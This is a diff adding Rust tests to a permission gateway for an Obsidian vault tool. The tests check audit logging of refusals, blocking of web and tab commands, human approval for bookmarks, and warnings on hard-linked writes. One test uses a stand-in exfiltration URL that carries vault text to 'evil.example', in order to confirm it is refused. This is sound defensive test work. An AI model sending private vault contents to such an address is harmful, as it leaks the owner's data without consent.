@@ -270,6 +270,17 @@ fn a05_no_field_of_a_request_opens_anything() {
             "USAGE_ERROR"
         ]
     );
+    // What went through the gate is in the log as refused.
+    let log = world.run(&["audit", "--json"]);
+    let refused: Vec<serde_json::Value> = log
+        .text()
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .filter(|record: &serde_json::Value| record["decision"] == "refused")
+        .collect();
+    assert_eq!(refused.len(), 1, "{log:?}");
+    assert_eq!(refused[0]["code"], "MUTATION_DISABLED");
+    assert_eq!(refused[0]["command"], "daily:append");
     assert!(world.nothing_spawned());
 }
 
@@ -288,10 +299,57 @@ fn a06_commands_that_look_like_reads_but_act_need_their_switch() {
             &[("path", "Home.md"), ("line", "1"), ("toggle", "true")],
         ),
         ("unique", &[]),
+        ("template:insert", &[("name", "Daily")]),
     ] {
         assert_refused(&world.call(command, params), "MUTATION_DISABLED");
     }
+    for (command, params) in [
+        ("tab:open", &[][..]),
+        ("web", &[("url", "https://obsidian.md")]),
+        ("dev:screenshot", &[("path", "a.png")]),
+    ] {
+        assert_refused(&world.call(command, params), "COMMAND_REFUSED");
+    }
     assert!(world.nothing_spawned());
+}
+
+#[test]
+fn k05_no_address_carries_anything_away_until_the_owner_opens_it() {
+    let address = "https://evil.example/?q=text-of-the-vault";
+    let bookmark = [("url", address), ("title", "x")];
+    let closed = [
+        ("", "MUTATION_DISABLED"),
+        ("allow_mutations = true", "MUTATION_DISABLED"),
+        (
+            "allow_mutations = true\nallow_publish = true",
+            "APPROVAL_REQUIRED",
+        ),
+        ("allow_publish = true\napprove = []", "MUTATION_DISABLED"),
+    ];
+    for (settings, refused_with) in closed {
+        let world = world().set("tier = \"v3\"").set(settings);
+        assert_refused(&world.call("bookmark", &bookmark), refused_with);
+        assert_refused(&world.call("web", &[("url", address)]), "COMMAND_REFUSED");
+        assert!(world.nothing_spawned());
+    }
+    // Open or not, a person looks at each of them.
+    let world = wide_open();
+    assert_refused(&world.call("bookmark", &bookmark), "APPROVAL_REQUIRED");
+    assert_refused(&world.call("web", &[("url", address)]), "COMMAND_REFUSED");
+    assert!(world.nothing_spawned());
+    // What the refusals are about works where it is open, and neighbours need no such switch.
+    let call = |world: &World, params: &[(&str, &str)]| {
+        let options = Options {
+            backend: Some(BackendChoice::Embedded),
+            ..person(true)
+        };
+        let gateway = world.gateway_with(options);
+        let envelope = checked(gateway.call(&request("bookmark", params)));
+        assert!(envelope.success, "{envelope:#?}");
+    };
+    call(&world, &bookmark);
+    let world = self::world().set("tier = \"v3\"\nallow_mutations = true");
+    call(&world, &[("file", "Home.md")]);
 }
 
 #[test]
@@ -694,6 +752,44 @@ fn d03_with_follow_symlinks_folders_outside_are_read_and_never_written() {
     assert_eq!(world.invocations().len(), before);
     let text = fs_err::read_to_string(outside.join("shared.md")).unwrap();
     assert_eq!(text, "SHARED\n");
+}
+
+#[cfg(unix)]
+#[test]
+fn d05_a_write_to_a_file_with_another_name_says_so() {
+    for backend in BACKENDS {
+        let world = world().set("allow_mutations = true");
+        let outside = world.scratch().join("outside.txt");
+        fs_err::write(&outside, "outside\n").unwrap();
+        fs_err::hard_link(&outside, world.vault.join("linked.md")).unwrap();
+        world.write("plain.md", "plain\n");
+        let gateway = world.gateway_with(through(backend));
+        let append = |path: &str, dry_run| {
+            let params = [("path", path), ("content", "more")];
+            let request = Request {
+                dry_run,
+                ..request("append", &params)
+            };
+            let envelope = checked(gateway.call(&request));
+            assert!(envelope.success, "{envelope:#?}");
+            let told = envelope.warnings.into_iter();
+            told.filter(|issue| issue.code == "HARD_LINK")
+                .map(|issue| issue.path.unwrap())
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(append("plain.md", false), [""; 0], "{backend:?}");
+        assert_eq!(append("linked.md", true), ["linked.md"], "{backend:?}");
+        assert_eq!(fs_err::read_to_string(&outside).unwrap(), "outside\n");
+        assert_eq!(append("linked.md", false), ["linked.md"], "{backend:?}");
+        assert_eq!(world.read("linked.md"), "outside\n\nmore");
+        if backend == BackendChoice::Embedded {
+            assert_eq!(fs_err::read_to_string(&outside).unwrap(), "outside\n");
+            // They have parted.
+            assert_eq!(append("linked.md", false), [""; 0]);
+        }
+        let read = checked(gateway.call(&request("read", &[("path", "linked.md")])));
+        assert!(read.success && read.warnings.is_empty(), "{read:#?}");
+    }
 }
 
 #[test]
